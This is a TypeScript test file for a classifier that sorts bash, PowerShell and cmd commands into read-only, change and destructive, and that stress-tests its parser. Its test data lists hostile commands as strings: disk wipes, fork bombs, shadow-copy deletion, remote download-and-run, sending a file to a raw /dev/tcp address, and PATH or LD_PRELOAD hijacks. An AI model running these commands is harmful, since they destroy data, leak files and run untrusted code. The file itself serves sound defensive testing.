import { beforeAll, describe, expect, it, vi } from 'vitest';
import type { Risk, Shell } from '@throughline/domain/command';
import { MOST_CHARACTERS } from '@throughline/domain/risk/syntax';
import { type RiskAssessor, createRiskAssessor } from './risk-parser.ts';

let assessor: RiskAssessor;
beforeAll(async () => {
  assessor = await createRiskAssessor();
});

/** What a person would expect; one script a line, written as a JavaScript string where it needs one. */
const BASH: Record<Risk, string[]> = {
  read_only: [
    'ls -la /etc',
    'cat /etc/os-release',
    'ls -l; df -h && free -m | head -2',
    'getent hosts localhost',
    'date -u',
    'date -d yesterday +%F',
    'uname -a',
    'echo "hello $USER"',
    'for i in $(seq 1 5); do echo $i; sleep 1; done',
    'if [ -f /etc/hosts ]; then cat /etc/hosts; else echo none; fi',
    'while read line; do echo "$line"; done < /etc/hosts',
    'ps aux | grep nginx | wc -l',
    'ss -tlnp',
    'ip a; ip addr show dev eth0; ip route get 1.1.1.1',
    'hostname',
    'hostname -f',
    'find /var/log -name "*.log" -size +10M',
    'journalctl -u nginx --since today --no-pager',
    'systemctl status nginx --no-pager',
    'systemctl list-units --failed',
    'openssl verify -CAfile /tmp/ca.pem /tmp/leaf.pem',
    'openssl x509 -in cert.pem -noout -dates',
    "sed -n '1,20p' /etc/hosts",
    "sed 's/a/b/g' file.txt",
    "awk '{print $1, $NF}' file.txt",
    "awk -F: '{print $1}' /etc/passwd",
    'ls 2>/dev/null',
    'ls missing 2>&1',
    'sort -rn -k2 file | uniq -c',
    'ping -c 3 localhost',
    'timeout 5 ls',
    'time ls',
    "bash -c 'ls -l'",
    '(cd /tmp && pwd)',
    'x=$(date); echo "$x"',
    'LC_ALL=C ls',
    'command -v nginx',
    'test -f /etc/hosts || exit 3',
    'printf "%s\\n" a b',
    'diff <(ls /a) <(ls /b)',
    'cat <<EOF\nhello $USER\nEOF',
    "cat <<'EOF'\n`touch x` $(touch y)\nEOF",
    'mount',
    'dmesg -T',
    'dpkg -l nginx',
    'git status',
    'xxd -l 16 file',
    'set -euo pipefail; ls',
    'ls # rm -rf /',
    "echo 'rm -rf /'",
    'true',
    '/usr/bin/id -u',
    'env',
  ],
  change: [
    'touch /tmp/lab/fixed',
    'mkdir x',
    'cp a b',
    'mv a b',
    'rm file.txt',
    'kill 1234',
    'chmod 600 x',
    'systemctl restart nginx',
    'systemctl -p status restart nginx',
    'systemctl -H other status nginx',
    'apt install nginx',
    'some-vendor-tool --status',
    './ls',
    '/tmp/ls',
    'echo hi > /etc/passwd',
    'echo hi >> notes.txt',
    'ls &> out',
    'ls >| out',
    'ls > "$OUT"',
    'ls $(touch x)',
    'ls `touch x`',
    'echo "a $(touch x)"',
    'echo "a `touch x`"',
    'cat <<EOF\n`touch x`\nEOF',
    'cat <<EOF\n$(touch x)\nEOF',
    'cat <<EOF | sh\nls\nEOF',
    'echo ${x%$(touch y)}',
    'echo ${x:-`touch y`}',
    'echo ${x:=y}',
    'echo ${x@P}',
    'PATH=/tmp ls',
    'export PATH=/tmp; ls',
    'LD_PRELOAD=/tmp/x.so ls',
    'BASH_ENV=/tmp/x bash -c ls',
    'IFS=/; ls',
    '$CMD x',
    '"$CMD" x',
    '$(echo touch) x',
    'l\\s',
    '"ls" -l',
    "$'\\x6cs'",
    'f() { touch x; }; f',
    'ls() { touch x; }; ls',
    'alias ls=touch; ls x',
    'eval ls',
    'source ./x.sh',
    '. ./x.sh',
    'sudo ls',
    'env X=1 ls',
    'ls | xargs touch',
    'find / -name x -exec touch {} ;',
    'find . $WHAT',
    'find . *',
    'sort -o out in',
    'sort --outp=out in',
    'sort --compress-program=./x in',
    'uniq in out',
    'xxd in out',
    'xxd -r in out',
    'date -s 2020-01-01',
    'date 010112002020',
    'date --se=now',
    'hostname evil',
    'ip link set eth0 down',
    'ip l s eth0 down',
    'ip -batch x',
    'ss -K',
    'dmesg -c',
    'journalctl --rotate',
    'journalctl --cursor-file=/etc/x',
    'openssl x509 -in a -out b',
    'openssl req -new',
    "sed -i 's/a/b/' x",
    'sed p x -i',
    "sed 's/a/touch x/e' y",
    "sed -n 'w out' y",
    'awk \'BEGIN{system("touch x")}\'',
    'awk \'{print > "out"}\' x',
    'tee out',
    'printf -v PATH /tmp',
    'printf $FORMAT x',
    'read PATH < x',
    'ping localhost',
    'bash script.sh',
    'bash',
    'bash -c "$X"',
    "bash -c 'touch x'",
    'bash -c "bash -c \'touch x\'"',
    'mount /dev/sdb1 /mnt',
    'ls &\ntouch x',
    'ls\u00a0-la',
    'ls \u200b',
    'ls <> f',
    'if',
    'ls "',
    'coproc ls',
    '[ -v "a[0]" ]',
    "x='a[$(touch y)]'; [ -v $x ]",
    "x='a[$(touch y)]'; [[ $x -eq 1 ]]",
    "x='a[$(touch y)]'; echo $((x))",
    '[ "$a" "$b" ]',
    'test "$a" "$b"',
    '(( x = 1 ))',
    'echo ${a[$(touch x)]}',
    'timeout 5 touch x',
    'time touch x',
    'command touch x',
    'exec touch x',
    'trap "touch x" EXIT',
    'echo hi >(touch x)',
    'git -c core.pager=./x log',
    'crontab -e',
    'cat x > /dev/tcp/1.2.3.4/80',
    'https_proxy=evil printenv',
  ],
  destructive: [
    'journalctl --vacuum-time=1s',
    'rm -rf /',
    'ls; rm -rf /',
    '\\rm -rf x',
    'r""m -rf x',
    '/bin/rm -r x',
    'rm --recursive x',
    'rm -fR x',
    'echo $(rm -rf x)',
    'bash -c "rm -rf /"',
    'sh -c \'sh -c "rm -rf /"\'',
    'sudo rm -rf /tmp/x',
    'sudo -u root bash -c "rm -rf /"',
    'ls | xargs rm',
    'find / -delete',
    'find . -exec rm {} ;',
    'eval "rm -rf /"',
    'timeout 5 rm -rf x',
    'mkfs.ext4 /dev/sdb1',
    'dd if=/dev/zero of=/dev/sda',
    'cat x > /dev/sda',
    'shred -u x',
    'wipefs -a /dev/sdb',
    ':(){ :|:& };:',
    'bomb() { bomb | bomb & }; bomb',
    'f() { rm -rf "$1"; }',
    'cat <<EOF\n`rm -rf /`\nEOF',
    'crontab -r',
    'rm -rf / "',
  ],
};

const POWERSHELL: Record<Risk, string[]> = {
  read_only: [
    'Get-Service | Where-Object { $_.Status -eq "Running" } | Sort-Object Name',
    'Get-Process | Select-Object -First 5 | Format-Table',
    'Test-NetConnection login.microsoftonline.com -Port 443',
    'Resolve-DnsName example.com',
    'ipconfig /all',
    'certutil -store My',
    'dsregcmd /status',
    'cmdkey /list',
    'whoami /all',
    'hostname',
    '$x = Get-Date; Write-Output $x',
    'if (Test-Path C:\\x) { Get-Content C:\\x } else { Write-Output "none" }',
    'Get-ChildItem | ForEach-Object { $_.Name }',
    'Get-Item x 2>$null',
    'Get-EventLog -LogName System -Newest 20 | Out-String',
    'reg query HKLM\\Software',
    'schtasks /query',
    '1..3 | ForEach-Object { $_ * 2 }',
    '(Get-Date).ToString("o")',
  ],
  change: [
    'Set-Service x -StartupType Manual',
    'Restart-Service Spooler',
    'New-Item x',
    'Remove-Item x.txt',
    'Stop-Process -Id 4',
    'iex (iwr http://x)',
    'Invoke-Expression "ls"',
    'powershell -EncodedCommand abc',
    '& $cmd',
    '& "C:\\x.exe"',
    '. .\\x.ps1',
    'Get-Process > out.txt',
    'Get-Process 2>out.txt',
    'Get-Content a>b',
    'Get-Content x | Set-Content y',
    '[System.IO.File]::Delete("x")',
    '(Get-Item x).Delete()',
    'Get-Item x | % Delete',
    'Get-Item x | ForEach-Object -MemberName Delete',
    'Get-Item $(Stop-Service x)',
    'Write-Output "$(Stop-Service x)"',
    '$env:PATH = "C:\\x"',
    '$x.Enabled = $false',
    'ipconfig /release',
    'certutil -delstore My x',
    'certutil -urlcache -f http://x y',
    'dsregcmd /leave',
    'cmdkey /delete:x',
    'Test-ComputerSecureChannel -Repair',
    'function Get-Foo { Stop-Service x }; Get-Foo',
    'netsh wlan delete profile x',
    'Where-Object { Stop-Service x }',
    'Get-ChildItem | ForEach-Object { Stop-Service $_ }',
    'Get-Item x\u00a0y',
    'Set-Alias ls Stop-Service',
    'unknown-tool',
    'Start-Process notepad',
    'Get-Date; }',
  ],
  destructive: [
    'Remove-Item -Recurse C:\\x',
    'Remove-Item C:\\x -Rec -Force',
    'rm -r -fo x',
    'Get-ChildItem | Remove-Item',
    'Remove-Item C:\\Users\\*',
    'Format-Volume -DriveLetter D',
    'Clear-Disk 1',
    'diskpart /s x',
    'reg delete HKLM\\Software\\X',
    'vssadmin delete shadows /all',
    'if ($true) { Get-Date; Remove-Item -Recurse x }',
    'Get-Item (Remove-Item -Recurse x)',
    'cmd /c "rd /s /q C:\\x"',
    'iex "Remove-Item -Recurse C:\\x"',
    'Remove-Item \u2013Recurse C:\\x',
    '& Remove-Item -Recurse x',
  ],
};

const CMD: Record<Risk, string[]> = {
  read_only: [],
  change: ['dir', 'ipconfig /all', 'echo hello'],
  destructive: ['rd /s /q C:\\x', 'del /f /s *.*', 'format d: /q', 'r^d /s C:\\x', 'reg delete HKLM\\X', 'diskpart'],
};

const cases = (shell: Shell, table: Record<Risk, string[]>) =>
  (Object.entries(table) as [Risk, string[]][]).flatMap(([risk, scripts]) =>
    scripts.map((script) => ({ shell, risk, script })),
  );

describe('the class of a command', () => {
  it.each([...cases('bash', BASH), ...cases('powershell', POWERSHELL), ...cases('cmd', CMD)])(
    'F049 F062 $shell: $script is $risk',
    ({ shell, risk, script }) => {
      const found = assessor.assess(shell, script);
      expect(found.risk, found.why).toBe(risk);
      expect(found.why).toMatch(/^[^\n]{5,160}\.$/);
    },
  );

  it('F049 says in one sentence which part decided', () => {
    expect(assessor.assess('bash', 'touch x').why).toBe('Creates the file x, or marks it as changed.');
    expect(assessor.assess('bash', 'systemctl restart cups').why).toBe('Restarts the print service (cups).');
    expect(assessor.assess('bash', 'rm -rf /tmp/x').why).toBe('Deletes files under /tmp/x.');
    expect(assessor.assess('bash', 'ls').why).toBe('Only reads.');
    expect(assessor.assess('bash', 'if').why).toBe('Cannot be parsed, so it counts as a change.');
    expect(assessor.assess('bash', 'ls; echo hi > /etc/passwd').why).toBe('Writes to the file /etc/passwd.');
  });
});

const LONG = Array.from({ length: 400 }, (_, i) => `ls -l /tmp/${i} | sort`).join('\n');

describe('scripts made to exhaust the classifier', () => {
  it.each([
    ['deep nesting', '$('.repeat(20_000) + 'ls' + ')'.repeat(20_000)],
    ['open parentheses', '('.repeat(64_000)],
    ['many commands', 'ls;'.repeat(21_000)],
    ['shells in shells', `bash -c "`.repeat(5_000) + 'ls'],
    ['many heredocs', 'cat <<A\n'.repeat(6_000)],
    ['quotes', `'"`.repeat(32_000)],
    ['backslashes', '\\'.repeat(64_000)],
    ['long word for the patterns', `sed 's/${'\\a'.repeat(30_000)}' x`],
    ['long awk', `awk '{print ${'$1 '.repeat(3_000)}x > "f"}' x`],
    ['many rm', 'rm -a '.repeat(9_000)],
    ['sudo of sudo', 'sudo '.repeat(13_000)],
    ['env of env', `${'env '.repeat(3_900)}touch x`],
    ['find that runs find', 'find . -exec '.repeat(5_000)],
    ['many words behind a wrapper', `sudo ${'x '.repeat(7_000)}`],
  ])('F062 answers within two seconds to %s, and not with read_only', (_name, script) => {
    // Whole, and cut to just what is still judged.
    for (const text of [script, script.slice(0, MOST_CHARACTERS)])
      for (const shell of ['bash', 'powershell', 'cmd'] as const) {
        const began = performance.now();
        expect(assessor.assess(shell, text).risk).not.toBe('read_only');
        expect(performance.now() - began).toBeLessThan(2_000);
      }
  });
  it('F062 gives up on one that takes too much of the processor', () => {
    let used = 0;
    vi.spyOn(process, 'cpuUsage').mockImplementation(() => ({ user: (used += 200_000), system: 0 }));
    expect(assessor.assess('bash', LONG).risk).toBe('change');
    vi.restoreAllMocks();
    expect(assessor.assess('bash', LONG).risk).toBe('read_only');
  });
  it('F062 judges alike while other programs have the processor', () => {
    let late = 0;
    vi.spyOn(performance, 'now').mockImplementation(() => (late += 1_000));
    const { risk } = assessor.assess('bash', LONG);
    vi.restoreAllMocks();
    expect(risk).toBe('read_only');
  });
  it('F062 still works after a script it gave up on', () => {
    assessor.assess('bash', '('.repeat(64_000));
    expect(assessor.assess('bash', 'ls').risk).toBe('read_only');
  });
});
